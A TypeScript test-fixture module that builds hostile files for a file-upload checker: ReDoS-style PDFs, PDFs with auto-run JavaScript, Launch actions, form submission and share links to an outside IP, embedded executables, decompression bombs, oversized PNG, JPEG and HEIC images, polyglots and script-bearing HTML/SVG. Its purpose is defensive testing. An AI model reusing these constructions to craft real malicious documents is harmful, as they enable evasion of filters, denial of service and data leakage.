import { deflateSync } from "node:zlib";
import { joined, jpeg, jpegSegment, png, pngChunk, zip } from "../../support/sent-files";
import { heic, heicOfTiles } from "../../support/sent-heic";
import { times } from "./multipart";
import { packed, packedPdf, soundPdf, stream } from "./pdfs";

/** `any`: whatever is made of it is made soon. */
export type Poison = { name: string; bytes: Uint8Array; expected: "refused" | "any" };

const refused = (name: string, bytes: Uint8Array): Poison => ({ name, bytes, expected: "refused" });
const any = (name: string, bytes: Uint8Array): Poison => ({ name, bytes, expected: "any" });

const SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
const SHARE = "(\\\\\\\\198.51.100.7\\\\partage\\\\a.pdf)";
const link = (action: string) => ({
  page: "/Annots [4 0 R]",
  objects: [`<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${action} >>`],
});

/** What took a checker that reads by expressions seconds or minutes: small, and one for each such expression. */
export function freezingPdfs(): Poison[] {
  const opened = (count: number, filler: number) =>
    packedPdf({}, [`${"/OpenAction 7 0 R ".repeat(count)}${" ".repeat(filler)}7 0 obj [ `]);
  return [
    any("an object stream of 1.2 kB", opened(9_000, 550_000)),
    any("an object stream of 2 kB", opened(12_000, 1_000_000)),
    refused(
      "a length of 200,000 digits",
      soundPdf({ objects: [`<< /Length ${"9".repeat(200_000)} 0 R >>\nstream\na\nendstream`] }),
    ),
    refused("200,000 filters", soundPdf({ objects: [stream("a", "/Filter[".repeat(200_000))] })),
    refused("100,000 lists in each other", soundPdf({ objects: ["[".repeat(100_000) + "]".repeat(100_000)] })),
    refused(
      "100,000 dictionaries in each other",
      soundPdf({ objects: ["<</A".repeat(100_000) + ">>".repeat(100_000)] }),
    ),
    any("100,000 comments and strings", soundPdf({ objects: [`[${"(a)%\n".repeat(100_000)}]`] })),
  ];
}

/** What does something when it is opened, or leads out of itself. */
export function activePdfs(): Poison[] {
  const appended = soundPdf();
  const update = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} >>\nendobj\n`;
  const table = `xref\n1 1\n${String(appended.length).padStart(10, "0")} 00000 n \n`;
  const before = /startxref\n(\d+)/.exec(Buffer.from(appended).toString("latin1"))?.[1];
  const trailer = `trailer\n<< /Root 1 0 R /Size 4 /Prev ${before} >>\nstartxref\n${appended.length + update.length}\n%%EOF\n`;
  const opened: Record<string, Uint8Array> = {
    "a script that opens": soundPdf({ catalog: `/OpenAction ${SCRIPT}` }),
    "a script by an escaped name": soundPdf({
      catalog: "/Open#41ction << /S /J#61vaScript /#4aS (app.alert\\(1\\)) >>",
    }),
    "a script among names": soundPdf({
      catalog: "/Names << /JavaScript << /Names [(a) 4 0 R] >> >>",
      objects: [SCRIPT],
    }),
    "a script in a packed object": packedPdf({ catalog: "/OpenAction 6 0 R" }, [SCRIPT]),
    "a script in a stream, a decoy in sight": soundPdf({
      catalog: "/OpenAction 4 0 R",
      objects: ["<< /S /GoTo /D [3 0 R /Fit] >>", stream(`hidden:4 0 obj\n${SCRIPT}\nendobj\n`)],
      hidden: { number: 4, behind: "hidden:" },
    }),
    "a script in a later revision": joined(appended, update, table, trailer),
    "a script when a page is seen": soundPdf({ page: `/AA << /O ${SCRIPT} >>` }),
    "a program that is started": soundPdf({ catalog: "/OpenAction << /S /Launch /F (calc.exe) >>" }),
    "a form that is sent": soundPdf(link("<< /S /SubmitForm /F (http://198.51.100.7/) >>")),
    "a form of another kind": soundPdf({ catalog: "/AcroForm << /XFA 4 0 R >>", objects: [packed("<xdp:xdp/>")] }),
    "a file inside": soundPdf({
      catalog: "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
      objects: ["<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", stream("MZ", "/Type /EmbeddedFile")],
    }),
    "a link to a share": soundPdf(link(`<< /S /GoToR /F ${SHARE} /D [0 /Fit] >>`)),
    "a share that opens": soundPdf({ catalog: `/OpenAction << /S /GoToR /F ${SHARE} /D [0 /Fit] >>` }),
    "a link to a file of the reader": soundPdf(link("<< /S /URI /URI (file://198.51.100.7/partage) >>")),
    "a link that runs": soundPdf(link("<< /S /URI /URI (javascript:alert\\(1\\)) >>")),
    "a password": soundPdf({ trailer: "/Encrypt << /Filter /Standard /V 1 /R 2 /O (a) /U (a) /P -4 >>" }),
  };
  return Object.entries(opened).map(([name, bytes]) => refused(name, bytes));
}

const ZEROS = (megabytes: number) => new Uint8Array(megabytes * 1_000_000);

/** What is small and becomes enormous, or never ends. */
export function unpackingPdfs(): Poison[] {
  const image = (size: number) =>
    `/Type /XObject /Subtype /Image /Width ${size} /Height ${size} /BitsPerComponent 8 /ColorSpace /DeviceRGB`;
  const twice = Uint8Array.from(deflateSync(deflateSync(ZEROS(50))));
  return [
    refused(
      "a page of 195 kB that unpacks to 200 MB",
      soundPdf({ page: "/Contents 4 0 R", objects: [packed(ZEROS(200))] }),
    ),
    refused(
      "a page packed twice",
      soundPdf({ page: "/Contents 4 0 R", objects: [stream(twice, "/Filter [/FlateDecode /FlateDecode]")] }),
    ),
    refused(
      "a picture of 60,000 by 60,000",
      soundPdf({ page: "/Resources << /XObject << /A 4 0 R >> >>", objects: [packed("a", image(60_000))] }),
    ),
    any("a table of a billion objects", soundPdf({ trailer: "/Size 999999999" })),
    any("a table before itself", soundPdf({ trailer: "/Prev 9" })),
    any(
      "a length that is its own",
      soundPdf({ page: "/Contents 4 0 R", objects: ["<< /Length 4 0 R >>\nstream\na\nendstream"] }),
    ),
    any("pages within themselves", soundPdf({ catalog: "/Outlines 1 0 R", page: "/Kids [2 0 R 3 0 R] /Count 99" })),
  ];
}

export function poisonousPictures(): Poison[] {
  const frame = pngChunk("fcTL", new Uint8Array(26));
  const size = Uint8Array.of(0, 0, 0, 2, 0, 0, 0, 1, 8, 0, 0, 0, 0);
  const bomb = joined(
    Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a),
    pngChunk("IHDR", size),
    pngChunk("IDAT", Uint8Array.from(deflateSync(ZEROS(200)))),
    pngChunk("IEND", new Uint8Array()),
  );
  const text = joined("a\0\0", Uint8Array.from(deflateSync(ZEROS(100))));
  return [
    refused("a PNG of 60,000 by 60,000", png({ width: 60_000, height: 60_000 })),
    refused("a PNG that unpacks to 200 MB", bomb),
    refused(
      "an animated PNG of 50,000 frames",
      png({ extra: [pngChunk("acTL", Uint8Array.of(0, 0, 195, 80, 0, 0, 0, 0)), ...times(50_000, () => frame)] }),
    ),
    any("a PNG with a text of 100 MB", png({ extra: [pngChunk("zTXt", text)] })),
    refused("a JPEG of 65,500 by 65,500", jpeg({ width: 65_500, height: 65_500 })),
    refused("a JPEG of 5,000 scans", jpeg({ scans: 5_000 })),
    refused("a JPEG with a page in it", jpeg({ extra: [jpegSegment(0xfe, "<script>alert(1)</script>")] })),
    refused("a JPEG before an archive", joined(jpeg(), zip())),
    refused("a HEIC of 65 million pixels in 15 kB", heic({ isLarge: true })),
    refused("a HEIC of as many that says it is small", heic({ isLarge: true, says: [64, 48] })),
    refused("a HEIC of 4 billion by 4 billion", heic({ says: [0xffff_ffff, 0xffff_ffff] })),
    refused("a HEIC whose tiles make up 65,535 by 65,535", heicOfTiles()),
  ];
}

export function otherFiles(): Poison[] {
  const files: Record<string, Uint8Array | string> = {
    nothing: "",
    "an archive": zip(),
    "a PDF before an archive": joined(soundPdf(), zip()),
    "a page": "<!doctype html><script>alert(1)</script>",
    "a picture that runs": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "a program": joined("MZ", ZEROS(1)),
    "half a PDF": soundPdf().subarray(0, 300),
    "10 MB of zeros": ZEROS(10),
    "more than 10 MB": joined(soundPdf(), ZEROS(10.4)),
  };
  return Object.entries(files).map(([name, bytes]) => refused(name, joined(bytes)));
}
